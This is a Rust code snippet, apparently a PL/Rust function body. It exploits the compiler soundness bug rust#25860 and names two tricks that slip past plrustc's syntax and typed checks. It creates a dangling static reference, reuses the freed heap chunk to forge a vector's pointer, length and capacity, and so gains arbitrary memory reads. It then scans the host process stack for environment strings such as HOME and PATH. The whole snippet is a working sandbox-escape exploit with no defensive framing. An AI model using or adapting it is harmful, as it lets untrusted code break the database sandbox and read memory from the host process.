// rust#25860 with both of plrustc's checks missed:
// - syntax: the pointer type is made by a macro from the call's `fn` token (the rule's skeleton has
//   `k(…)`), and the call sits in `matches!` arguments that plrustc only token-scans (trailing comma
//   after the guard), where body macro calls are never expanded;
// - typed check: the pointer type mentions `Q<'"'>`; the MIR reader takes the `"` of that char
//   constant for the start of a string and blanks the rest of the line, the coercion marker with it.
pub struct Q<const C: char>;
static UNIT: &'static &'static () = &&();
fn translate<'a, 'b, T: ?Sized>(_x: &'a &'b (), v: &'b T) -> &'a T { v }
macro_rules! widen {
    ($k:tt, $T:ty, $x:expr) => {{ let f: for<'x> $k(&'static &'static (), &'x $T) -> &'static $T = translate; f(UNIT, $x) }}
}
#[inline(never)]
fn expand<'a>(x: &'a Vec<u8>) -> &'static Vec<u8> {
    let out: std::cell::Cell<Option<&'static Vec<u8>>> = std::cell::Cell::new(None);
    let _ = matches!((), () if out.replace(Some(widen!(fn, Vec<u8>, x))).is_none(),);
    out.get().unwrap()
}
// A &'static Vec<u8> into a Box that is freed on return.
#[inline(never)]
fn dangling() -> &'static Vec<u8> { let boxed: Box<Vec<u8>> = Box::new(Vec::new()); expand(std::hint::black_box(&*boxed)) }
#[inline(never)]
fn cell() -> Box<[usize; 3]> { std::hint::black_box(Box::new([1, 2, 3])) }
#[inline(never)]
fn peek(v: &'static Vec<u8>) -> (usize, usize) { let v = std::hint::black_box(v); (v.len(), v.capacity()) }
#[inline(never)]
fn copy(v: &'static Vec<u8>) -> Vec<u8> { std::hint::black_box(v).as_slice().to_vec() }

let fake = dangling();
let mut cell = cell();      // the freed chunk again: the Vec's (ptr, cap, len) are now these three words
let (len, cap) = peek(fake);
if len > 3 || cap > 3 || len == cap { return Err("chunk not reused".into()); }
let (len_at, cap_at) = (len - 1, cap - 1);
let ptr_at = 3 - len_at - cap_at;
let mut read = |addr: usize, n: usize| -> Vec<u8> {
    cell[ptr_at] = addr; cell[len_at] = n; cell[cap_at] = n;
    let v = copy(fake);
    cell[ptr_at] = 1; cell[len_at] = 0; cell[cap_at] = 0;
    v
};
// Arbitrary read: walk up the stack from a local to the environment strings the kernel put at its top.
let local = 0u8;
let mut page = (std::hint::black_box(&local) as *const u8 as usize) & !4095;
let mut found = Vec::new();
for _ in 0..4096 {
    let bytes = read(page, 4096);
    for part in bytes.split(|b| *b == 0) {
        if let Ok(s) = std::str::from_utf8(part) {
            for key in ["HOME=", "PATH=", "USER=", "PWD=", "HOSTNAME=", "SHELL="] {
                if s.starts_with(key) && !found.contains(&s.to_string()) { found.push(s.to_string()); }
            }
        }
    }
    if found.len() >= 3 { break; }
    page += 4096;
}
Ok(Some(format!("layout ptr={} cap={} len={} | read from the host process's stack: {:?}", ptr_at, cap_at, len_at, found)))
